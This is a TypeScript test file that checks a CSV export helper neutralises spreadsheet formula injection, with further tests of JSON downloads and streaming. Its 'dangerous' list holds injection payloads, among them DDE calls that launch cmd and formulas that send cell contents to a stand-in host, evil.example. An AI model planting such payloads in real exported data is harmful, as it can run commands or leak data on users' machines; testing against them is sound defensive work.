import Papa from "papaparse";
import { expect, test } from "vitest";
import { csvLines } from "#shared/text/csv.ts";
import { csv, jsonFile } from "./download.ts";

const parsed = (text: string) => {
  const { data, errors } = Papa.parse<string[]>(text, { delimiter: ",", newline: "\r\n" });
  expect([errors, data.pop()]).toEqual([[], [""]]);
  return data;
};

const exported = async (cells: string[]) => {
  const response = csv("x.csv", ["cell"], [cells.map((cell) => ({ cell }))]);
  return parsed(await response.text())
    .slice(1)
    .map(([cell]) => cell);
};

const dangerous = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
  '=WEBSERVICE("https://evil.example")',
  '=IMPORTXML(CONCAT("https://evil.example?",A1),"//a")',
  '=IMAGE("https://evil.example/x.png")',
  '=DDE("cmd";"/C calc";"!A0")',
  "=SUM(1,2)",
  "==1",
  "=",
  "+1+1",
  "+cmd|' /C calc'!A0",
  "+491701234567",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "-",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "@handle",
  "\t=1+1",
  "\tplain",
  "\r=1+1",
  "\rplain",
  "\n=1+1",
  "\r\n=1+1",
  "\0=1+1",
  "\0plain",
  " =1+1",
  "   =1+1",
  " \t=1+1",
  " \tplain",
  " \0=1+1",
  "\u00a0=1+1",
  "\u3000=1+1",
  "\ufeff=1+1",
  '"=1+1"',
  '""=1+1',
  '" =1+1',
  "'=1+1",
  "' +1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
  " ＝1+1",
  "=1+1\r\n=2+2",
  '=1+1","=2+2',
  "=1+1,=2+2",
  "-5",
  "+",
];

test.each(dangerous)("%j is exported as text behind an apostrophe, in one cell", async (cell) => {
  const [first, second, third] = await exported(["before", cell, "after"]);
  expect([first, third]).toEqual(["before", "after"]);
  expect(second).toBe(`'${cell}`);
});

const harmless = [
  "plain",
  "",
  "two words",
  "a,b",
  'say "hi"',
  '"quoted"',
  "line\r\nbreak",
  "line\nbreak",
  "a=b",
  "a+b@c.example",
  "x - y",
  "1",
  "0041",
  "ünïcode 😀",
  "https://a.example/?q=1&b=-2",
  "tab\tinside",
  "it's",
  '",=1+1',
];

test.each(harmless)("%j is exported unchanged", async (cell) => {
  expect(await exported([cell])).toEqual([cell]);
});

test("writes numbers unquoted, dates as ISO and null as empty", () => {
  expect(csvLines([[-5, 0, 1.5, new Date("2026-11-21T09:00:00Z"), null]])).toBe(
    "-5,0,1.5,2026-11-21T09:00:00.000Z,\r\n",
  );
});

test("writes a header line, then one line per row in the same column order", async () => {
  const response = csv("Leads.csv", ["name", "score"], [[{ score: 1, name: "Ada, B." }]]);
  expect(parsed(await response.text())).toEqual([
    ["name", "score"],
    ["Ada, B.", "1"],
  ]);
  expect(Object.fromEntries(response.headers)).toMatchObject({
    "content-type": "text/csv; charset=utf-8",
    "content-disposition": 'attachment; filename="Leads.csv"',
    "cache-control": "no-store",
  });
});

async function* batches<Row>(...all: Row[][]) {
  yield* all;
}

test.each([
  ["plain values", { a: 1, b: [true, null], c: { d: "é" } }, { a: 1, b: [true, null], c: { d: "é" } }],
  ["times", { at: new Date("2026-11-21T09:00:00Z") }, { at: "2026-11-21T09:00:00.000Z" }],
  ["nothing", {}, {}],
  ["no batch", { rows: batches() }, { rows: [] }],
  ["empty batches", { rows: batches([], []) }, { rows: [] }],
  ["batches", { rows: batches([1, 2], [3]) }, { rows: [1, 2, 3] }],
  [
    "batches within batches",
    { all: batches([{ id: 1, rows: batches([2], [3]) }]) },
    { all: [{ id: 1, rows: [2, 3] }] },
  ],
  ["batches within an object", { data: { rows: batches([{ a: "," }]) } }, { data: { rows: [{ a: "," }] } }],
])("writes %s as JSON", async (_, value, expected) => {
  expect(await jsonFile("file.json", value).json()).toEqual(expected);
});

test("sends a download that is not cached", () => {
  const { headers } = jsonFile("data.json", {});
  expect(headers.get("content-disposition")).toBe('attachment; filename="data.json"');
  expect(headers.get("content-type")).toBe("application/json; charset=utf-8");
  expect(headers.get("cache-control")).toBe("no-store");
});

test("reads only as fast as the client, and stops when it disconnects", async () => {
  const read = { batches: 0, ended: false };
  async function* endless() {
    try {
      for (;;) {
        read.batches++;
        yield ["x".repeat(1_000)];
      }
    } finally {
      read.ended = true;
    }
  }
  const reader = jsonFile("file.json", { rows: endless() }).body?.getReader();
  await reader?.read();
  expect(read.batches).toBeLessThan(100);
  await reader?.cancel();
  expect(read.ended).toBe(true);
});
